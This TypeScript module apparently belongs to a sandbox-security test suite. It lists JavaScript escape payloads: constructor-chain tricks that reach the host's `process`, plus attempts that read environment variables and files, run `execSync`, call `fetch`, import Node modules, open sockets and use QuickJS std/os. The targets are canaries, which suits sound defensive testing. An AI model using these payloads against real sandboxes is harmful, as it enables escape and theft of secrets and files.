// JavaScript steps that look for a way to the host: through what they are given, through modules, through names.
import type { Attack, Family } from '../support/attack.ts';
import type { Aims } from '../support/canaries.ts';
import { inNode, inVm } from '../support/controls.ts';

/** Takes all there is to take from a `process`, if it is the host's. */
const loot = (aims: Aims): string => `
async function loot(host) {
  const found = [];
  try { found.push(host.env[${JSON.stringify(aims.variable)}]) } catch {}
  try {
    const fs = host.getBuiltinModule('node:fs');
    found.push(fs.readFileSync(${JSON.stringify(aims.file)}, 'utf8'));
    fs.writeFileSync(${JSON.stringify(aims.created)}, 'x');
  } catch {}
  return found.join();
}`;

/** Each gives the host's \`process\` where the host's own objects are within reach. */
const ROUTES: readonly (readonly [string, string])[] = [
  ["a console method's constructor", `return console.log.constructor('return process')()`],
  ["the console's constructor", `return console.constructor.constructor('return process')()`],
  ["a timer function's constructor", `return setTimeout.constructor('return process')()`],
  ["a timer's constructor", `return setTimeout(() => {}, 0).constructor.constructor('return process')()`],
  ["a class's constructor", `return URL.constructor('return process')()`],
  ["an instance's constructor", `return new URL('http://a').constructor.constructor('return process')()`],
  [
    'the search parameters of an address',
    `return new URL('http://a?b').searchParams.constructor.constructor('return process')()`,
  ],
  ['bytes that the host made', `return new TextEncoder().encode('x').constructor.constructor('return process')()`],
  ['the buffer under them', `return new TextEncoder().encode('x').buffer.constructor.constructor('return process')()`],
  ['a clone', `return structuredClone({}).constructor.constructor('return process')()`],
  ['an array in a clone', `return structuredClone({ a: [] }).a.constructor.constructor('return process')()`],
  ['the crypto object', `return crypto.constructor.constructor('return process')()`],
  ['a random identifier function', `return crypto.randomUUID.constructor('return process')()`],
  ['an error of atob', `try { atob('%') } catch (e) { return e.constructor.constructor('return process')() }`],
  ['an error of URL', `try { new URL('//') } catch (e) { return e.constructor.constructor('return process')() }`],
  [
    'an error of structuredClone',
    `try { structuredClone(() => {}) } catch (e) { return e.constructor.constructor('return process')() }`,
  ],
  [
    'an error of TextDecoder',
    `try { new TextDecoder('no such') } catch (e) { return e.constructor.constructor('return process')() }`,
  ],
  [
    'the refusal of require',
    `try { require('fs') } catch (e) { return e.constructor.constructor('return process')() }`,
  ],
  ['require itself', `return require.constructor('return process')()`],
  ['the environment', `return process.env.constructor.constructor('return process')()`],
  ['the inputs', `return inputs.constructor.constructor('return process')()`],
  ['a list in the inputs', `return inputs.given.list.constructor.constructor('return process')()`],
  [
    'a generator made from a host function',
    `return Object.getPrototypeOf(console.log).constructor('return process')()`,
  ],
  [
    'what the host hands to a custom inspector',
    `let found; console.log({ [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { found = inspect; return '' } });
     return found.constructor('return process')()`,
  ],
];

const route = ([name, body]: readonly [string, string]): Attack => {
  const code = (aims: Aims): string =>
    `${loot(aims)}\nasync function run(inputs) {\n  return loot((() => { ${body} })())\n}`;
  return {
    name,
    given: 'function run() { return { list: [1] } }',
    step: (aims) => ({ language: 'javascript', code: code(aims) }),
    control: { proof: (aims) => inVm([code(aims)]) },
  };
};

const text = (value: string): string => JSON.stringify(value);

/** Each is the body of an exported function, and works in a module of Node's. */
const AMBIENT: readonly (readonly [string, (aims: Aims) => string])[] = [
  ['require of a built-in module', (a) => `return require('node:fs').readFileSync(${text(a.file)}, 'utf8')`],
  ['a process started by require', (a) => `require('child_process').execSync('touch ${a.created}')`],
  ['getBuiltinModule', (a) => `return process.getBuiltinModule('fs').readFileSync(${text(a.file)}, 'utf8')`],
  ['process.binding', (a) => `return process.binding('fs') && process.env[${text(a.variable)}]`],
  ['the environment of the process', (a) => `return process.env[${text(a.variable)}]`],
  ['every variable of the environment', () => `return JSON.stringify(process.env)`],
  ['fetch', (a) => `await fetch(${text(a.url)})`],
  ['import of a node: module', (a) => `return (await import('node:fs')).readFileSync(${text(a.file)}, 'utf8')`],
  ['import of a bare module', (a) => `return (await import('fs')).readFileSync(${text(a.file)}, 'utf8')`],
  [
    'import of a data: module',
    (a) => `return (await import('data:text/javascript,export default process.env')).default[${text(a.variable)}]`,
  ],
  ['import of a file: module', (a) => `try { await import('file://${a.file}') } catch (e) { return String(e.stack) }`],
  [
    'import by a function made from text',
    (a) => `return (await new Function('return import("node:fs")')()).readFileSync(${text(a.file)}, 'utf8')`,
  ],
  [
    'import by indirect eval',
    (a) => `return (await (0, eval)('import("node:fs")')).readFileSync(${text(a.file)}, 'utf8')`,
  ],
  [
    'an async function made from text',
    (a) => `return (async () => {}).constructor('return process')().then((p) => p.env[${text(a.variable)}])`,
  ],
  [
    'an async generator made from text',
    (a) =>
      `return (await (async function* () {}).constructor('yield process')().next()).value.env[${text(a.variable)}]`,
  ],
  [
    'the report of the process',
    (a) => `return JSON.stringify(process.report.getReport().environmentVariables[${text(a.variable)}])`,
  ],
  [
    'a socket',
    (a) =>
      `const { connect } = await import('node:net'); await new Promise((done) => connect(${a.port}, '127.0.0.1', done))`,
  ],
];

const ambient = ([name, body]: (typeof AMBIENT)[number]): Attack => {
  const code = (aims: Aims): string => `export async function run(inputs) {\n  ${body(aims)}\n}`;
  return {
    name,
    step: (aims) => ({ language: 'javascript', code: code(aims) }),
    control: {
      proof: (aims) => inNode(code(aims)),
    },
  };
};

const NO_SUCH_HOST = 'only the shell that QuickJS ships has these, and nothing here is built with it';
const QUICKJS_SHELL: readonly (readonly [string, string])[] = [
  ['the std module', `import * as std from 'std'; export function run() { return std.loadFile('/etc/hostname') }`],
  ['the os module', `import * as os from 'os'; export function run() { return os.readdir('/') }`],
  ['the qjs:std module', `import * as std from 'qjs:std'; export function run() { return std.getenviron() }`],
  ['the globals std and os', `function run() { return [typeof std, typeof os, typeof scriptArgs, typeof bjson] }`],
  [
    'globals of other hosts',
    `function run() { return [typeof Deno, typeof Bun, typeof window, typeof self, typeof WebAssembly, typeof Worker, typeof navigator, typeof print, typeof load, typeof read, typeof gc, typeof $262] }`,
  ],
];

export const JAVASCRIPT_HOST: readonly Family[] = [
  { name: 'JavaScript: from a given object to the host', attacks: ROUTES.map(route) },
  { name: 'JavaScript: what Node would give', attacks: AMBIENT.map(ambient) },
  {
    name: 'JavaScript: what QuickJS could give',
    attacks: QUICKJS_SHELL.map(([name, code]) => ({
      name,
      step: () => ({ language: 'javascript', code }),
      ...(code.startsWith('import') && { ends: ['not-runnable'] as const }),
      control: { none: NO_SUCH_HOST },
    })),
  },
];
